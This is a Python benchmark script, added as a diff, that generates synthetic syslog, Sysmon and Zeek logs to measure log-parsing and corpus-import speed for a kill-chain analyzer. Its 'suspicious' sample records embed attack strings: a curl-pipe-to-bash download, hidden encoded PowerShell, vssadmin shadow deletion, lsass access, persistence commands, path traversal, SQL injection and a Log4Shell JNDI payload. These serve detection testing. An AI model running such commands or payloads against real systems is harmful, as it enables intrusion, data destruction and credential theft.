@@ -0,0 +1,301 @@
+"""
+CYBER KILL CHAIN ANALYZER - BENCHMARK DELL'IMPORTAZIONE DI LOG REALI
+
+Genera un campione di syslog, Sysmon XML e Zeek TSV (circa --size-mb MB per
+formato, con il 2% di record sospetti) e misura in MB/s:
+- parse: analisi e classificazione dei record (models/log_parsers.py) con
+  1 processo e con più processi, consumando il generatore dei log
+- build: importazione completa nel corpus SQLite (tools/build_corpus.py)
+
+Riporta anche il picco di memoria residente del processo principale e dei
+processi del pool, che non dipende dalla dimensione del campione.
+
+I campioni restano in --workdir e vengono riusati se hanno già la dimensione
+richiesta. Per un campione di più GB:
+    python -m benchmarks.bench_log_parsers --size-mb 2048 --workdir /data/ingest-bench
+
+Uso (dalla directory backend):
+    python -m benchmarks.bench_log_parsers
+    python -m benchmarks.bench_log_parsers --size-mb 64 --workers 1 4 --output parsers.json
+"""
+
+import argparse
+import json
+import os
+import random
+import resource
+import sys
+import tempfile
+import time
+
+from models.log_parsers import FORMATS, DEFAULT_CHUNK_BYTES, parse_files
+from tools.build_corpus import build_corpus
+
+SUSPICIOUS_SHARE = 0.02
+
+# ============================================================================
+# CAMPIONI
+# ============================================================================
+
+def _ip(rnd, internal):
+    if internal:
+        return f'10.0.{rnd.randrange(256)}.{rnd.randrange(1, 255)}'
+    return f'{rnd.choice((185, 203, 45, 91))}.{rnd.randrange(256)}.{rnd.randrange(256)}.{rnd.randrange(1, 255)}'
+
+def _syslog_record(rnd, n, suspicious):
+    stamp = f'Mar {rnd.randrange(1, 29):2d} {rnd.randrange(24):02d}:{rnd.randrange(60):02d}:{rnd.randrange(60):02d}'
+    host = f'srv{rnd.randrange(40):02d}'
+    if not suspicious:
+        return rnd.choice((
+            f'{stamp} {host} sshd[{n % 60000}]: Accepted publickey for deploy from {_ip(rnd, True)} port '
+            f'{rnd.randrange(1024, 65535)} ssh2: ED25519 SHA256:{n:x}',
+            f'{stamp} {host} CRON[{n % 60000}]: (root) CMD (/usr/lib/sysstat/sa1 1 1)',
+            f'{stamp} {host} systemd[1]: Started Session {n} of user deploy.',
+            f'{stamp} {host} nginx: {_ip(rnd, False)} - - [15/Mar/2025:09:23:17 +0000] "GET /static/app.{n}.js '
+            f'HTTP/1.1" 200 5120 "-" "Mozilla/5.0"',
+        ))
+    return rnd.choice((
+        f'{stamp} {host} kernel: [{n}.123] [UFW BLOCK] IN=eth0 OUT= SRC={_ip(rnd, False)} DST={_ip(rnd, True)} '
+        f'LEN=44 TTL=241 PROTO=TCP SPT={rnd.randrange(1024, 65535)} DPT={rnd.choice((22, 23, 445, 3389))} SYN',
+        f'{stamp} {host} sshd[{n % 60000}]: Failed password for invalid user admin{n % 97} from {_ip(rnd, False)} '
+        f'port {rnd.randrange(1024, 65535)} ssh2',
+        f'{stamp} {host} useradd[{n % 60000}]: new user: name=svc{n % 1000}, UID={1000 + n % 5000}, GID=100, '
+        f'home=/home/svc, shell=/bin/bash',
+        f'{stamp} {host} crontab[{n % 60000}]: (root) REPLACE (www-data)',
+        f'{stamp} {host} nginx: {_ip(rnd, False)} - - [15/Mar/2025:09:23:17 +0000] "GET /download.php?file='
+        f'../../../../etc/passwd&n={n} HTTP/1.1" 404 162 "-" "curl/8.0"',
+        f'{stamp} {host} sudo[{n % 60000}]:     www-data : TTY=unknown ; PWD=/tmp ; USER=root ; '
+        f'COMMAND=/bin/sh -c curl -s http://{_ip(rnd, False)}/x{n}.sh | bash',
+        f'{stamp} {host} amavis[{n % 60000}]: ({n}-01) Blocked INFECTED (Win.Trojan.Agent-{n % 9999}) '
+        f'{{DiscardedInbound}}, [{_ip(rnd, False)}] <billing@invoices-{n % 50}.com> -> <user{n % 300}@company.local>',
+    ))
+
+_SYSMON_EVENT = (
+    '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System>'
+    '<Provider Name="Microsoft-Windows-Sysmon" Guid="{{5770385f-c22a-43e0-bf4c-06f5698ffbd9}}"/>'
+    '<EventID>{event_id}</EventID><Version>5</Version><Level>4</Level><Task>{event_id}</Task>'
+    '<TimeCreated SystemTime="2025-03-{day:02d}T{hour:02d}:{minute:02d}:{second:02d}.{n:07d}Z"/>'
+    '<EventRecordID>{n}</EventRecordID><Execution ProcessID="3120" ThreadID="4412"/>'
+    '<Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>WS-{host:03d}.company.local</Computer>'
+    '<Security UserID="S-1-5-18"/></System><EventData>'
+    '<Data Name="RuleName">-</Data><Data Name="UtcTime">2025-03-{day:02d} {hour:02d}:{minute:02d}:{second:02d}.000</Data>'
+    '<Data Name="ProcessGuid">{{a1b2c3d4-{n:04x}-0000-0000-000000000000}}</Data><Data Name="ProcessId">{pid}</Data>'
+    '{data}</EventData></Event>\n'
+)
+
+def _sysmon_data(**values):
+    return ''.join(f'<Data Name="{name}">{value}</Data>' for name, value in values.items())
+
+def _sysmon_record(rnd, n, suspicious):
+    if not suspicious:
+        event_id, data = rnd.choice((
+            (1, _sysmon_data(Image='C:\\Windows\\System32\\svchost.exe',
+                             CommandLine='C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
+                             User='NT AUTHORITY\\SYSTEM', ParentImage='C:\\Windows\\System32\\services.exe',
+                             Hashes=f'SHA256={n:064x}')),
+            (3, _sysmon_data(Image='C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', Initiated='true',
+                             Protocol='tcp', SourceIp='10.0.1.45', DestinationIp='142.250.184.78',
+                             DestinationPort='443')),
+            (5, _sysmon_data(Image='C:\\Windows\\System32\\conhost.exe')),
+            (11, _sysmon_data(Image='C:\\Windows\\System32\\svchost.exe',
+                              TargetFilename=f'C:\\Windows\\Temp\\cab_{n}.tmp')),
+            (22, _sysmon_data(Image='C:\\Windows\\System32\\svchost.exe', QueryName='login.microsoftonline.com',
+                              QueryStatus='0')),
+        ))
+    else:
+        event_id, data = rnd.choice((
+            (1, _sysmon_data(Image='C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+                             CommandLine=f'powershell.exe -nop -w hidden -enc SQBFAFgA{n:x}',
+                             ParentImage='C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
+                             User='COMPANY\\mrossi')),
+            (1, _sysmon_data(Image='C:\\Windows\\System32\\schtasks.exe',
+                             CommandLine=f'schtasks /create /tn Updater{n} /tr C:\\ProgramData\\u.exe /sc hourly',
+                             ParentImage='C:\\Windows\\System32\\cmd.exe')),
+            (1, _sysmon_data(Image='C:\\Windows\\System32\\vssadmin.exe',
+                             CommandLine='vssadmin.exe delete shadows /all /quiet',
+                             ParentImage=f'C:\\Users\\Public\\enc{n}.exe')),
+            (3, _sysmon_data(Image='C:\\Windows\\System32\\rundll32.exe', Initiated='true', Protocol='tcp',
+                             SourceIp='10.0.1.45', DestinationIp=_ip(rnd, False), DestinationPort='8443')),
+            (10, _sysmon_data(SourceImage=f'C:\\Users\\Public\\m{n}.exe',
+                              TargetImage='C:\\Windows\\system32\\lsass.exe', GrantedAccess='0x1010')),
+            (13, _sysmon_data(EventType='SetValue', Image='C:\\Users\\mrossi\\AppData\\Local\\Temp\\upd.exe',
+                              TargetObject=f'HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd{n}',
+                              Details='C:\\Users\\mrossi\\AppData\\Local\\Temp\\upd.exe')),
+            (15, _sysmon_data(Image='C:\\Program Files\\Mozilla Firefox\\firefox.exe',
+                              TargetFilename=f'C:\\Users\\mrossi\\Downloads\\invoice_{n}.iso:Zone.Identifier',
+                              Contents='[ZoneTransfer]  ZoneId=3  HostUrl=https://invoices-cdn.com/i.iso')),
+            (22, _sysmon_data(Image='C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+                              QueryName=f'{n:048x}.cdn-metrics.net', QueryStatus='0')),
+        ))
+    return _SYSMON_EVENT.format(
+        event_id=event_id, n=n, day=rnd.randrange(1, 29), hour=rnd.randrange(24), minute=rnd.randrange(60),
+        second=rnd.randrange(60), host=rnd.randrange(500), pid=rnd.randrange(100, 20000), data=data
+    )
+
+_ZEEK_LOGS = {
+    'conn': ('ts uid id.orig_h id.orig_p id.resp_h id.resp_p proto service duration orig_bytes resp_bytes conn_state',
+             'time string addr port addr port enum string interval count count string'),
+    'dns': ('ts uid id.orig_h id.orig_p id.resp_h id.resp_p proto query qtype_name rcode_name answers',
+            'time string addr port addr port enum string string string vector[string]'),
+    'http': ('ts uid id.orig_h id.orig_p id.resp_h id.resp_p method host uri user_agent status_code resp_mime_types',
+             'time string addr port addr port string string string string count vector[string]'),
+}
+
+def _zeek_header(path_name):
+    fields, types = _ZEEK_LOGS[path_name]
+    return (
+        '#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n'
+        f'#path\t{path_name}\n#open\t2025-03-15-00-00-00\n'
+        f'#fields\t{fields.replace(" ", chr(9))}\n#types\t{types.replace(" ", chr(9))}\n'
+    )
+
+def _zeek_record(rnd, n, suspicious, path_name):
+    ts = f'{1742025600 + n * 0.01:.6f}'
+    uid = f'C{n:017x}'
+    orig, resp = _ip(rnd, True), _ip(rnd, False)
+    if path_name == 'conn':
+        sent = rnd.randrange(60_000_000, 900_000_000) if suspicious else rnd.randrange(0, 200_000)
+        values = (ts, uid, orig, rnd.randrange(1024, 65535), resp, 443, 'tcp', 'ssl',
+                  f'{rnd.random() * 60:.3f}', sent, rnd.randrange(0, 50_000), 'SF')
+    elif path_name == 'dns':
+        query = f'{n:048x}.cdn-metrics.net' if suspicious else rnd.choice(
+            ('www.google.com', 'outlook.office365.com', f'host{n % 500}.company.local')
+        )
+        values = (ts, uid, orig, rnd.randrange(1024, 65535), '10.0.0.53', 53, 'udp', query,
+                  'A', 'NOERROR', '142.250.184.78')
+    else:
+        uri, agent, mime = f'/assets/{n}.js', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)', 'text/plain'
+        if suspicious:
+            uri, agent, mime = rnd.choice((
+                (f'/search?q=1%27%20union%20select%20user,pass%20from%20users--{n}', 'sqlmap/1.7', 'text/html'),
+                (f'/update/patch{n}.exe', 'Mozilla/5.0', 'application/x-dosexec'),
+                (f'/?x=${{jndi:ldap://{resp}/a{n}}}', 'Mozilla/5.0', '-'),
+            ))
+        values = (ts, uid, orig, rnd.randrange(1024, 65535), resp, 80, 'GET', f'site{n % 20}.example.com',
+                  uri, agent, 200, mime)
+    return '\t'.join(str(value) for value in values) + '\n'
+
+def write_sample(record_format, directory, size_bytes, seed=0):
+    """
+    Scrive un campione di circa size_bytes (riusato se esiste già)
+
+    Returns:
+        list: Percorsi dei file del campione
+    """
+    if record_format == 'zeek':
+        # Come in un sensore reale: conn è il log più grande
+        parts = (('conn', 0.6), ('dns', 0.25), ('http', 0.15))
+    else:
+        parts = ((None, 1.0),)
+    rnd = random.Random(seed)
+    paths = []
+    for path_name, share in parts:
+        path = os.path.join(directory, f'{record_format}-{path_name or "sample"}.{"xml" if record_format == "sysmon" else "log"}')
+        paths.append(path)
+        target = int(size_bytes * share)
+        if os.path.exists(path) and os.path.getsize(path) >= target:
+            continue
+        with open(path, 'w', encoding='utf-8') as f:
+            written = 0
+            n = 0
+            if record_format == 'zeek':
+                written += f.write(_zeek_header(path_name))
+            elif record_format == 'sysmon':
+                written += f.write('<Events>\n')
+            while written < target:
+                batch = []
+                for _ in range(1000):
+                    n += 1
+                    suspicious = rnd.random() < SUSPICIOUS_SHARE
+                    if record_format == 'syslog':
+                        batch.append(_syslog_record(rnd, n, suspicious) + '\n')
+                    elif record_format == 'sysmon':
+                        batch.append(_sysmon_record(rnd, n, suspicious))
+                    else:
+                        batch.append(_zeek_record(rnd, n, suspicious, path_name))
+                written += f.write(''.join(batch))
+            if record_format == 'sysmon':
+                f.write('</Events>\n')
+    return paths
+
+# ============================================================================
+# MISURE
+# ============================================================================
+
+def peak_rss_mb():
+    """
+    Returns:
+        tuple: (picco del processo principale, picco del più grande processo figlio) in MB
+    """
+    scale = 1024 * 1024 if sys.platform == 'darwin' else 1024
+    return (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / scale,
+            resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / scale)
+
+def measure_parse(record_format, paths, workers, chunk_bytes):
+    stats = {}
+    started = time.perf_counter()
+    for _ in parse_files(record_format, paths, workers=workers, chunk_bytes=chunk_bytes, stats=stats):
+        pass
+    return time.perf_counter() - started, stats
+
+def measure_build(record_format, paths, workers, chunk_bytes, directory):
+    corpus_path = os.path.join(directory, f'{record_format}-corpus.db')
+    for suffix in ('', '-wal', '-shm'):
+        if os.path.exists(corpus_path + suffix):
+            os.remove(corpus_path + suffix)
+    stats = {}
+    started = time.perf_counter()
+    added = build_corpus(corpus_path, parse_files(record_format, paths, workers=workers,
+                                                  chunk_bytes=chunk_bytes, stats=stats))
+    stats['added'] = added
+    return time.perf_counter() - started, stats
+
+def main(argv=None):
+    parser = argparse.ArgumentParser(description='Real log ingestion (syslog, Sysmon XML, Zeek) benchmark')
+    parser.add_argument('--size-mb', type=int, default=256, help='approximate sample size per format')
+    parser.add_argument('--formats', nargs='+', default=list(FORMATS), choices=FORMATS)
+    parser.add_argument('--workers', type=int, nargs='+', default=sorted({1, os.cpu_count() or 1}))
+    parser.add_argument('--chunk-mb', type=float, default=DEFAULT_CHUNK_BYTES / (1024 * 1024))
+    parser.add_argument('--workdir', help='directory for the samples (default: a temporary directory)')
+    parser.add_argument('--output', help='write results to this JSON file')
+    args = parser.parse_args(argv)
+
+    workdir = args.workdir or tempfile.mkdtemp(prefix='ckc-ingest-bench-')
+    os.makedirs(workdir, exist_ok=True)
+    chunk_bytes = int(args.chunk_mb * 1024 * 1024)
+    results = []
+
+    print(f"{'format':<8} {'stage':<6} {'workers':>7} {'MB':>8} {'MB/s':>8} {'records/s':>10} "
+          f"{'logs':>8} {'added':>8}")
+    for record_format in args.formats:
+        started = time.perf_counter()
+        paths = write_sample(record_format, workdir, args.size_mb * 1024 * 1024)
+        print(f"sample {record_format}: {', '.join(paths)} ({time.perf_counter() - started:.1f}s)", file=sys.stderr)
+        runs = [('parse', workers) for workers in args.workers] + [('build', max(args.workers))]
+        for stage, workers in runs:
+            if stage == 'parse':
+                elapsed, stats = measure_parse(record_format, paths, workers, chunk_bytes)
+            else:
+                elapsed, stats = measure_build(record_format, paths, workers, chunk_bytes, workdir)
+            megabytes = stats['bytes'] / (1024 * 1024)
+            result = {
+                'format': record_format, 'stage': stage, 'workers': workers, 'mb': round(megabytes, 1),
+                'seconds': round(elapsed, 2), 'mb_per_second': round(megabytes / elapsed, 1),
+                'records_per_second': round(stats['records'] / elapsed), 'records': stats['records'],
+                'logs': stats['logs'], 'added': stats.get('added')
+            }
+            results.append(result)
+            print(f"{record_format:<8} {stage:<6} {workers:>7} {megabytes:>8.0f} {result['mb_per_second']:>8.1f} "
+                  f"{result['records_per_second']:>10} {stats['logs']:>8} {stats.get('added', '-'):>8}")
+
+    main_rss, child_rss = peak_rss_mb()
+    print(f"\npeak RSS: main {main_rss:.0f} MB, largest worker {child_rss:.0f} MB "
+          f"(chunks of {args.chunk_mb:g} MB)")
+    if args.output:
+        with open(args.output, 'w', encoding='utf-8') as f:
+            json.dump({'results': results, 'peak_rss_mb': {'main': main_rss, 'worker': child_rss},
+                       'cpu_count': os.cpu_count(), 'chunk_mb': args.chunk_mb}, f, indent=2)
+    return 0
+
+if __name__ == '__main__':
+    sys.exit(main())